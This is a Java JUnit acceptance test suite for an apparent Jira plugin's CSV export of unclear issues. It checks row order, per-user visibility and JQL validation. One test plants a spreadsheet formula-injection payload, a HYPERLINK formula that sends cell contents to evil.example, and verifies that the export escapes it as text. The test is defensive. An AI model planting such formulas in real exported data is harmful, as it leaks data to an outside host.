package io.clearowner.acceptance.rest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.clearowner.acceptance.driver.Eventually;
import io.clearowner.acceptance.driver.JiraClient;
import io.clearowner.acceptance.driver.RunningSandbox;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The whole list as a file, as each person sees it, with the real data and with a summary that is a formula. */
class CsvTest {
    private static final String CSV = "/rest/clear-owner/1.0/unclear/csv?jql=";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    private final JiraClient admin = JiraClient.loggedIn(RunningSandbox.shared(), "admin");
    private final JiraClient lee = JiraClient.loggedIn(RunningSandbox.shared(), "lee");

    @BeforeEach
    void nothingIsUnderWay() {
        Eventually.within(Duration.ofMinutes(1))
                .becomesTrue(
                        "the numbers are those of the data",
                        () -> admin.unclear("resolution is EMPTY")
                                        .body()
                                        .at("/counts/unclear")
                                        .asInt()
                                == 101);
    }

    @Test
    void listsEveryUnclearIssueInTheOrderOfTheList() {
        List<List<String>> rows = rows(admin, "resolution is EMPTY ORDER BY key", "");
        assertThat(rows).hasSize(102);
        assertThat(rows.get(0)).startsWith("Issue key", "Summary", "Project").hasSize(11);
        assertThat(keys(rows)).isEqualTo(listed(admin, "resolution is EMPTY ORDER BY key", "either"));
        assertThat(keys(rows(admin, "resolution is EMPTY ORDER BY key", "&role=vision")))
                .isEqualTo(listed(admin, "resolution is EMPTY ORDER BY key", "vision"))
                .hasSize(3);
    }

    @Test
    void hasOnlyWhatTheReaderSees() {
        List<String> keys = keys(rows(lee, "resolution is EMPTY ORDER BY key", ""));
        assertThat(keys)
                .isEqualTo(listed(lee, "resolution is EMPTY ORDER BY key", "either"))
                .hasSizeLessThan(101)
                .isNotEmpty();
    }

    @Test
    void aFormulaStaysText() {
        String key = admin.unclear("resolution is EMPTY and \"Execution Clarity\" = missing")
                .body()
                .at("/issues/0/key")
                .asText();
        String before = admin.get("/rest/api/2/issue/" + key)
                .body()
                .at("/fields/summary")
                .asText();
        try {
            assertThat(admin.put("/rest/api/2/issue/" + key, Map.of("fields", Map.of("summary", FORMULA)))
                            .status())
                    .isEqualTo(204);
            assertThat(rows(admin, "key = " + key, "").get(1).get(1)).isEqualTo("'" + FORMULA);
        } finally {
            admin.put("/rest/api/2/issue/" + key, Map.of("fields", Map.of("summary", before)));
        }
    }

    @Test
    void refusesAScopeThatIsNone() {
        JiraClient.Answer answer = admin.get(CSV + JiraClient.encoded("nonsense = 1"));
        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body().at("/errors/0/field").asText()).isEqualTo("jql");
    }

    private static List<List<String>> rows(JiraClient viewer, String jql, String more) {
        JiraClient.Answer answer = viewer.get(CSV + JiraClient.encoded(jql) + more);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.text()).startsWith("\uFEFF").endsWith("\r\n");
        return parsed(answer.text().substring(1));
    }

    private static List<String> keys(List<List<String>> rows) {
        return rows.stream().skip(1).map(row -> row.get(0)).toList();
    }

    private static List<String> listed(JiraClient viewer, String jql, String role) {
        List<String> keys = new ArrayList<>();
        for (int start = 0; ; start += 100) {
            JsonNode page = viewer.get("/rest/clear-owner/1.0/unclear?limit=100&start=" + start + "&role=" + role
                            + "&jql=" + JiraClient.encoded(jql))
                    .body();
            page.get("issues").forEach(issue -> keys.add(issue.get("key").asText()));
            if (keys.size() >= page.get("total").asInt()) {
                return keys;
            }
        }
    }

    /** As RFC 4180 has it. */
    private static List<List<String>> parsed(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"') {
                if (quoted && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append(c);
                    i++;
                } else {
                    quoted = !quoted;
                }
            } else if (!quoted && (c == ',' || c == '\n')) {
                row.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    rows.add(row);
                    row = new ArrayList<>();
                }
            } else if (quoted || c != '\r') {
                cell.append(c);
            }
        }
        return rows;
    }
}
